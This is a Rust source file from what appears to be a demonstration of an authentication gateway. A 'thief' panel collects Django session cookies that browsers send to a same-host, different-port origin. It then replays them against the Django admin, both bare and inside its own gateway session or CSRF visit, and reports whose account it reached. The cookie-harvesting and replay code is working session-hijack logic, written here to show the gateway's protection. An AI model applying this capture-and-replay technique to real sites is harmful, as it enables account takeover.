//! The thief of somebody else's application: Django's admin, behind the gateway and, at its own port, without it.
//!
//! Cookies know of hosts, and nothing of ports. So a browser that comes to the panel brings along what it keeps for the
//! application at the same host: by one name that of the gateway, by the other that of the application itself. What the
//! thief then does with them he does from here, as a program with a device key of his own.

use std::sync::{Arc, Mutex, PoisonError};

use axum::extract::State;
use axum::http::header::{COOKIE, HOST, LOCATION, SET_COOKIE};
use axum::http::{HeaderMap, HeaderValue, StatusCode};
use axum::routing::{get, post};
use axum::{Json, Router};
use bulla_client::{Client, Mode, ProofKind};
use bytes::Bytes;
use http::{Request, Response};
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

use crate::assets;
use crate::demo::DemoError;
use crate::message::Message;
use crate::tap::cookie;
use crate::thief::{Failed, straight};

/// Django's, as it comes.
const SESSION: &str = "sessionid";
const CSRF: &str = "csrftoken";
const ADMIN: &str = "/admin/";
const LOGIN: &str = "/admin/login/";

/// Where the application is, and how visitors log in to it.
#[derive(Clone, Debug, Default, Serialize)]
pub struct Admin {
    /// The gateway's origin: `http://localhost:PORT`.
    pub behind: String,
    /// The application's own: `http://127.0.0.1:PORT`.
    pub without: String,
    /// Who may log in. It is shown to visitors.
    pub user: String,
    /// The password, likewise.
    pub password: String,
}

/// What the thief tries.
#[derive(Clone, Copy, Deserialize)]
#[serde(rename_all = "lowercase")]
enum Attack {
    /// The cookie alone.
    Bare,
    /// The cookie, in a session of his own.
    Session,
}

/// The cookies that he has copied, by side; and what he tries with them.
#[derive(Clone, Default, Serialize, Deserialize)]
struct Loot {
    protected: String,
    twin: String,
}

#[derive(Deserialize)]
struct Try {
    attack: Attack,
    #[serde(flatten)]
    loot: Loot,
}

/// What came of it. A side whose cookie he does not have is left out.
#[derive(Serialize)]
struct Report {
    protected: Option<Attempt>,
    twin: Option<Attempt>,
}

#[derive(Serialize)]
struct Attempt {
    sent: Message,
    /// What came back to him, unless it was a refusal that came sealed.
    answer: Option<Message>,
    /// The refusal's code, and its sentence.
    code: Option<String>,
    detail: Option<String>,
    /// Whose page he got.
    user: Option<String>,
}

#[derive(Clone)]
struct Panel {
    /// By both of its names: as the gateway is called, and as the application itself is.
    origins: [String; 2],
    admin: Admin,
    client: Client,
    loot: Arc<Mutex<Loot>>,
}

/// The panel at `/`.
pub(crate) fn app(origin: &str, also: &str, admin: Admin) -> Result<Router, DemoError> {
    let about = json!({ "admin": admin, "take": format!("{also}/take"), "home": origin });
    let panel = Panel {
        origins: [origin, also].map(str::to_owned),
        client: straight(Client::builder(&admin.behind))?,
        loot: Arc::default(),
        admin,
    };
    Ok(Router::new()
        .route("/demo.json", get(async move || Json(about)))
        .route("/take", get(take))
        .route("/thief/loot", get(loot))
        .route("/thief/try", post(attempt))
        .with_state(panel)
        .merge(assets::panel()))
}

/// Keeps the cookie that has come by this name, and sends the browser on: to the other name, and then back.
async fn take(
    State(panel): State<Panel>,
    headers: HeaderMap,
) -> Result<(StatusCode, [(http::HeaderName, String); 1]), StatusCode> {
    let [home, also] = &panel.origins;
    let is = |origin: &str| {
        let host = headers.get(HOST).map(HeaderValue::as_bytes);
        host == origin.strip_prefix("http://").map(str::as_bytes)
    };
    let cookie = cookie(&headers, SESSION).unwrap_or_default();
    let mut loot = panel.loot.lock().unwrap_or_else(PoisonError::into_inner);
    let next = if is(also) {
        loot.twin = cookie;
        format!("{home}/take")
    } else if is(home) {
        loot.protected = cookie;
        format!("{home}/#thief")
    } else {
        return Err(StatusCode::MISDIRECTED_REQUEST);
    };
    Ok((StatusCode::SEE_OTHER, [(LOCATION, next)]))
}

async fn loot(State(panel): State<Panel>) -> Json<Loot> {
    let loot = panel.loot.lock().unwrap_or_else(PoisonError::into_inner);
    Json(loot.clone())
}

async fn attempt(
    State(panel): State<Panel>,
    Json(Try { attack, loot }): Json<Try>,
) -> Result<Json<Report>, Failed> {
    let [behind, without] = [&panel.admin.behind, &panel.admin.without];
    let protected = match (&*loot.protected, attack) {
        ("", _) => None,
        (cookie, Attack::Bare) => Some(panel.bare(behind, cookie).await?),
        (cookie, Attack::Session) => Some(panel.in_own_session(cookie).await?),
    };
    let twin = match (&*loot.twin, attack) {
        ("", _) => None,
        (cookie, Attack::Bare) => Some(panel.bare(without, cookie).await?),
        (cookie, Attack::Session) => Some(panel.in_own_visit(without, cookie).await?),
    };
    Ok(Json(Report { protected, twin }))
}

impl Panel {
    /// Asks for the admin's first page with nothing but the cookie.
    async fn bare(&self, origin: &str, cookie: &str) -> Result<Attempt, Failed> {
        let request = ask(origin, ADMIN, &format!("{SESSION}={cookie}"))?;
        let reply = self.client.send_unverified(request.clone()).await?;
        Ok(Attempt::new(&request, Ok(reply)))
    }

    /// Opens a session behind the gateway, as anybody may, and sends the cookie within it.
    async fn in_own_session(&self, cookie: &str) -> Result<Attempt, Failed> {
        let session = self.client.open().await?;
        let nonce = session.fresh_nonce()?;
        let page = Request::get(ADMIN).body(Bytes::new());
        let page = page.map_err(|_| Failed::Loot)?;
        let prepared = session.prepare(page, Mode::Sealed, ProofKind::Device, nonce)?;
        let mut request = prepared.request.clone();
        let cookie = HeaderValue::from_str(&format!("{SESSION}={cookie}"));
        let cookie = cookie.map_err(|_| Failed::Loot)?;
        request.headers_mut().insert(COOKIE, cookie);
        let reply = self.client.send_unverified(request.clone()).await?;
        Ok(Attempt::new(&request, prepared.open_reply(reply).await))
    }

    /// The same without the gateway, where a session is what cookies make it: he comes to the login page, and puts the
    /// cookie beside the one that he gets there.
    async fn in_own_visit(&self, origin: &str, cookie: &str) -> Result<Attempt, Failed> {
        let login = self.client.send_unverified(ask(origin, LOGIN, "")?).await?;
        let own = login.headers().get_all(SET_COOKIE).iter();
        let own = own
            .filter_map(|cookie| cookie.to_str().ok()?.split(';').next())
            .find(|cookie| cookie.starts_with(CSRF));
        let own = own.ok_or(Failed::NothingCaught)?;
        let request = ask(origin, ADMIN, &format!("{own}; {SESSION}={cookie}"))?;
        let reply = self.client.send_unverified(request.clone()).await?;
        Ok(Attempt::new(&request, Ok(reply)))
    }
}

impl Attempt {
    fn new(sent: &Request<Bytes>, answer: Result<Response<Bytes>, bulla_client::Error>) -> Self {
        let mut attempt = Self {
            sent: Message::request(sent),
            answer: None,
            code: None,
            detail: None,
            user: None,
        };
        match answer {
            Ok(answer) => {
                let told = |name: &str| {
                    let problem: Value = serde_json::from_slice(answer.body()).ok()?;
                    Some(problem.get(name)?.as_str()?.to_owned())
                };
                attempt.code = told("code");
                attempt.detail = told("detail");
                attempt.user = greeted(answer.body());
                attempt.answer = Some(Message::answer(&answer));
            }
            Err(error) => {
                attempt.code = Some(error.code.to_string());
                attempt.detail = Some(error.detail.to_owned());
            }
        }
        attempt
    }
}

fn ask(origin: &str, path: &str, cookies: &str) -> Result<Request<Bytes>, Failed> {
    let mut request = Request::get(format!("{origin}{path}"));
    if !cookies.is_empty() {
        request = request.header(COOKIE, cookies);
    }
    request.body(Bytes::new()).map_err(|_| Failed::Loot)
}

/// Whom the admin's page greets: `<div id="user-tools">Welcome, <strong>ann</strong>`.
fn greeted(page: &[u8]) -> Option<String> {
    let page = str::from_utf8(page).ok()?;
    let (_, tools) = page.split_once("id=\"user-tools\"")?;
    let (_, name) = tools.split_once("<strong>")?;
    let (name, _) = name.split_once("</strong>")?;
    Some(name.trim().to_owned())
}
